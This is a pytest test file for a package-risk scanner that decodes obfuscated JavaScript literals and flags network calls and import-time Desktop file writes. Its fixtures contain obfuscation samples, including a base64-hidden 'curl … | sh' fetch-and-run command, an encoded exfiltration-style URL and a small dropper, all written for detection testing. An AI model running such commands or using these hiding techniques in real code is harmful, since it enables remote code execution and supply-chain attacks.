"""Literals JavaScript decodes at run time are decoded statically and scanned like plain text."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from distrust.analyze.js.decode import from_buffer, from_char_codes
from distrust.analyze.js.engine import analyze_js
from distrust.model import Severity
from distrust.pipeline.risk import FetchOptions, run_inspect


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _caps(source: str) -> set[tuple[str, str]]:
    return {(c.kind, c.value) for c in analyze_js("index.js", source.encode(), dialect="js").capabilities}


def test_a_base64_url_handed_to_https_is_found() -> None:
    url = "https://collect.example-drop.net/u"
    hidden = f"Buffer.from('{_b64(url)}', 'base64').toString()"
    caps = _caps(f"const https = require('https');\nhttps.get({hidden});\n")
    assert ("network.url", url) in caps
    assert ("network.request", f"http.get {url}") in caps  # the label names the API family
    assert ("obfuscation.decoded", f"base64: {url}") in caps


def test_atob_through_a_const_and_char_codes_are_decoded() -> None:
    command = "curl -s http://203.0.113.9/x | sh"
    codes = ", ".join(str(ord(c)) for c in "child_process")
    source = (
        f"const hidden = '{_b64(command)}';\n"
        "const cmd = atob(hidden);\n"
        f"const mod = String.fromCharCode({codes});\n"
    )
    caps = _caps(source)
    assert ("obfuscation.decoded", f"base64: {command}") in caps
    assert ("obfuscation.decoded", "charcodes: child_process") in caps


@pytest.mark.parametrize(
    "source",
    [
        # an embedded binary blob decodes to bytes, not text
        f"const wasm = Buffer.from('{base64.b64encode(bytes(range(256))).decode()}', 'base64');\n",
        # readable but harmless text is decoded and scanned, yet is not "hidden"
        f"const greeting = Buffer.from('{_b64('hello there, friend')}', 'base64').toString();\n",
        # utf8 is not an encoding anyone hides behind
        "const b = Buffer.from('https://example.org/', 'utf8');\n",
    ],
)
def test_ordinary_buffers_are_not_hidden_strings(source: str) -> None:
    assert not any(kind == "obfuscation.decoded" for kind, _ in _caps(source))


def test_decoders_refuse_garbage() -> None:
    assert from_buffer("not base64 at all!", "base64") is None
    assert from_buffer("zz", "hex") is None
    assert from_buffer("aGVsbG8gd29ybGQ=", "latin1") is None
    assert from_char_codes([0x110000]) is None
    assert from_char_codes([104, 105, 33, 33]) == "hi!!"


# --- fixed strings built from consts, templates and the home directory --------------------------

DROPPER = """\
import fs from 'fs';
import { homedir } from 'os';
const desk = `${homedir()}/Desktop/`;
function leave(path, text) { fs.writeFile(path, text, () => {}); }
if (!fs.existsSync(desk + 'note.txt')) {
  const name = 'note.txt';
  leave(`${desk}${name}`, 'hello');
}
export function later(path) { leave(path, 'x'); }
"""

DROPPER_ES5 = """\
var import_os = require("os");
var import_fs = require("fs");
var desk = "".concat(import_os.homedir, "/OneDrive/Desktop/");
function leave(path2, text) { import_fs.writeFile(path2, text, function () {}); }
name = "note.txt";
leave("".concat(desk).concat(name), "hello");
var name;
"""


@pytest.mark.parametrize("source", [DROPPER, DROPPER_ES5])
def test_a_write_to_the_desktop_through_a_helper_is_resolved(source: str) -> None:
    caps = _caps(source)
    writes = {value for kind, value in caps if kind == "file.write"}
    assert any(v.startswith("~/") and v.endswith("Desktop/note.txt") for v in writes), writes
    assert any(kind == "exec.import_time" and value.startswith("file.write ~/") for kind, value in caps)


def test_a_write_inside_a_function_is_not_import_time() -> None:
    source = (
        "const fs = require('fs');\n"
        "function save(){ fs.writeFileSync(`${process.env.HOME}/Desktop/x.txt`, 'a'); }\n"
    )
    caps = _caps(source)
    assert ("file.write", "~/Desktop/x.txt") in caps
    assert not any(kind == "exec.import_time" for kind, _ in caps)


def test_an_import_time_desktop_drop_is_high(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text('{"name": "peace-demo", "version": "1.0.0", "main": "index.js"}')
    (tmp_path / "index.js").write_text(DROPPER)
    result = run_inspect(str(tmp_path), FetchOptions(metadata=False))
    assert "DT-RISK-125" in {f.rule_id for f in result.assessment.findings}
    assert result.assessment.level >= Severity.HIGH
